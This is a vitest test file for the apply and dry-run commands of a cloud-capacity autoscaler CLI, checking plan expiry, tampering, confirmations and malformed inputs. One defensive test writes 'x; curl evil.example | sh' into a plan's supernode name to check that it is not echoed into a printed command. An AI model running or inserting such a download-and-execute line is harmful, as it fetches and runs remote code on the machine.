import { readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { makeLedger } from "../ledger/initialised.ts"
import { bytes, type CloudFixture, cloudFixture, MINUTE, POLICY, START } from "./harness.ts"

// `dry-run --out` and `apply`, against the real sandbox.

const ALARM = "test/events/functiongraph-smn-cloud-eye-alarm.json"
const ASK = ["dry-run", "train-a", "--by", "ann", "--why", "launch week"]

/** Runs a dry run that writes a plan file, and returns the file's path. */
async function planned(own: CloudFixture): Promise<string> {
  const file = join(own.dir, "plan.json")
  const { code, err } = await own.run(...ASK, "--out", file)
  expect({ code, err }).toEqual({ code: 0, err: expect.stringContaining(`the plan is in ${file}`) })
  return file
}

/** Changes fields of the plan file, as a person with an editor would. */
function edit(file: string, change: object): void {
  writeFileSync(file, JSON.stringify({ ...(JSON.parse(readFileSync(file, "utf8")) as object), ...change }))
}

it("a plan file buys what its dry run showed, once, however often it is applied", async () => {
  const own = await cloudFixture()
  const file = await planned(own)
  const first = await own.run("apply", file, "--yes", "--json")
  own.advance(30 * MINUTE)
  const second = await own.run("apply", file, "--yes", "--json")
  expect([first.code, second.code]).toEqual([0, 0])
  expect(first.json()).toMatchObject({
    results: [{ mode: "live", outcome: { kind: "accepted" }, plan: { to: 4 } }],
  })
  expect(second.json()).toMatchObject({ results: [{ decision: { heldBy: "duplicate" } }] })
  expect(own.sandbox.orders).toHaveLength(1)
})

it("dry-run --out replaces an older plan file, and no other file", async () => {
  const own = await cloudFixture()
  const file = await planned(own)
  const first = readFileSync(file, "utf8")
  own.advance(MINUTE)
  await planned(own)
  expect(readFileSync(file, "utf8")).not.toBe(first)

  const policy = join(own.dir, "policy.yaml")
  const { code, err } = await own.run(...ASK, "--out", policy)
  expect({ code, err }).toEqual({
    code: 1,
    err: expect.stringContaining(`${policy} exists and is not a plan. Nothing was written`),
  })
  expect(readFileSync(policy, "utf8")).toBe(POLICY)
})

it("the line that dry-run --out prints applies the plan file that it wrote", async () => {
  const own = await cloudFixture()
  const file = join(own.dir, "plan.json")
  const { out } = await own.run(...ASK, "--out", file)
  expect(out).toContain(`supernode-autoscaler apply '${file}'`)
})

describe("a plan file that may not be applied", () => {
  it.each<[situation: string, change: (own: CloudFixture, file: string) => unknown, says: string]>([
    [
      "when 24 hours have passed",
      (own) => own.advance(24 * 60 * MINUTE),
      "the plan expired at 2024-01-13 16:52:00 +00:00",
    ],
    [
      "when its expiry was edited and 24 hours have passed",
      (own, file) => {
        edit(file, { expires: "2099-01-01T00:00:00.000Z" })
        own.advance(24 * 60 * MINUTE)
      },
      "the plan expired at 2024-01-13 16:52:00 +00:00",
    ],
    [
      "when the clock is behind the plan file",
      (own) => own.advance(-10 * MINUTE),
      "Set this machine's clock. To make a new plan, run: supernode-autoscaler dry-run train-a",
    ],
    [
      "when the policy has changed",
      (own) => own.file("policy.yaml", POLICY.replace("above: 85", "above: 86")),
      "the policy of train-a has changed since the plan was made",
    ],
    [
      "when the policy no longer names the supernode",
      (own) => own.file("policy.yaml", POLICY.replace("train-a", "train-b")),
      "train-a is not in the policy any more",
    ],
    [
      "under another ledger",
      async (own) => {
        own.env["SUPERNODE_LEDGER"] = `sqlite:${join(own.dir, "other.db")}`
        await own.run("ledger", "init", "--why", "another one", "--by", "ops")
      },
      "the plan was made under ledger",
    ],
    [
      "when something else was bought meanwhile",
      (own) => own.run("run", "--event", ALARM),
      "held (in-flight)",
    ],
    ["when everything is paused", (own) => own.run("pause", "--why", "maintenance", "--by", "ops"), "paused"],
    ["when runs only observe", (own) => Object.assign(own.env, { SUPERNODE_MODE: "observe" }), "NOT BOUGHT"],
  ])("apply exits 3, prints the reason and buys nothing %s", async (_situation, change, says) => {
    const own = await cloudFixture()
    const file = await planned(own)
    await change(own, file)
    const before = own.sandbox.orders.length
    const { code, out, err } = await own.run("apply", file, "--yes")
    expect({ code, said: out + err }).toEqual({ code: 3, said: expect.stringContaining(says) })
    expect(own.sandbox.orders).toHaveLength(before)
  })

  it("apply exits 3, prints the reason and buys nothing when the plan file was made without a ledger", async () => {
    const own = await cloudFixture({}, POLICY, { withoutLedger: true })
    const file = await planned(own)
    expect(JSON.parse(readFileSync(file, "utf8"))).toMatchObject({ v: 1, ledger: null, supernode: "train-a" })
    await makeLedger(String(own.env["SUPERNODE_LEDGER"]), START)
    const { code, err } = await own.run("apply", file, "--yes")
    expect({ code, err }).toEqual({ code: 3, err: expect.stringContaining("made without a ledger") })
    expect(own.sandbox.orders).toEqual([])
  })
})

it.each<[answer: string, code: number, orders: number]>([
  ["yes", 0, 1],
  ["y", 3, 0],
  ["", 3, 0],
])(
  "apply with the answer '%s' at the terminal ends with exit code %i and %i orders",
  async (answer, code, orders) => {
    const own = await cloudFixture()
    const file = await planned(own)
    const asked: string[] = []
    const ask = async (question: string): Promise<string> => {
      asked.push(question)
      return answer
    }
    const ran = await own.runWith({ ask }, "apply", file)
    expect(ran.code).toBe(code)
    expect(ran.out).toContain("for 120000 CNY")
    expect(asked).toEqual([expect.stringContaining("Type yes: ")])
    expect(own.sandbox.orders).toHaveLength(orders)
  },
)

it("apply reads a plan file from stdin, also with the byte order mark of a Windows editor", async () => {
  const own = await cloudFixture()
  const text = `\uFEFF${readFileSync(await planned(own), "utf8")}`
  const { code } = await own.runWith({ stdin: bytes(text) }, "apply", "-", "--yes")
  expect({ code, orders: own.sandbox.orders.length }).toEqual({ code: 0, orders: 1 })
})

it("apply prints no command with a supernode's name that occurs only in the plan file", async () => {
  const own = await cloudFixture()
  const file = await planned(own)
  const { request } = JSON.parse(readFileSync(file, "utf8")) as { request: object }
  const supernode = "x; curl evil.example | sh"
  edit(file, { supernode, ledger: "another", request: { ...request, supernode } })
  const { code, err } = await own.run("apply", file, "--yes")
  expect({ code, err }).toEqual({ code: 3, err: expect.not.stringContaining("dry-run x;") })
})

it("apply does not buy without --yes if there is no terminal", async () => {
  const own = await cloudFixture()
  const { code, err } = await own.run("apply", await planned(own))
  expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining("add --yes") })
  expect(own.sandbox.orders).toEqual([])
})

it.each<[what: string, file: (own: CloudFixture, file: string) => string, says: string]>([
  ["a file that does not exist", () => "nowhere.json", "cannot be read: no such file"],
  ["a text that is not JSON", (own) => own.file("p.json", "{"), "is not JSON"],
  ["null", (own) => own.file("p.json", "null"), "it must be one JSON object. To make one, run: "],
  ["an empty file", () => "/dev/null", "it is empty. To make one, run: "],
  ["a directory", (own) => own.dir, "cannot be read: it is a directory"],
  ["a file without an end", () => "/dev/zero", "is larger than 6 MB"],
  ["another document", (own) => own.file("p.json", { v: 2 }), "is not a plan file: v: "],
  [
    "a request that was edited",
    (_own, file) => {
      const { request } = JSON.parse(readFileSync(file, "utf8")) as { request: object }
      edit(file, { request: { ...request, supernode: "train-b" } })
      return file
    },
    "request: is for another supernode or plan than the file",
  ],
])("apply refuses %s as a plan file, and says why", async (_what, fileOf, says) => {
  const own = await cloudFixture()
  const { code, err } = await own.run("apply", fileOf(own, await planned(own)), "--yes")
  expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining(says) })
  expect(own.sandbox.orders).toEqual([])
})

it.each<[situation: string, ask: string[], load: number, says: string]>([
  ["nothing may be bought", ASK, 20, "nothing would be bought: held (not-breaching)"],
  ["no reason is given", ["dry-run", "train-a", "--by", "ann"], 97, "--why is missing"],
])("dry-run --out writes no plan file if %s, says so, and fails", async (_, ask, load, says) => {
  const own = await cloudFixture()
  own.sandbox.setLoad(load)
  const file = join(own.dir, "plan.json")
  const { code, err } = await own.run(...ask, "--out", file)
  expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining(`${file} was not written: ${says}`) })
  expect(() => readFileSync(file)).toThrow("ENOENT")
})

it.each<[why: string, options: string[]]>([
  ["--since is not before --until", ["--since", "1m", "--until", "1h"]],
  ["--follow is given with an --until in the past", ["--follow", "--until", "1m"]],
])("audit list exits 2 if %s", async (_why, options) => {
  const own = await cloudFixture()
  const { code, err } = await own.run("audit", "list", ...options)
  expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining("--until") })
})
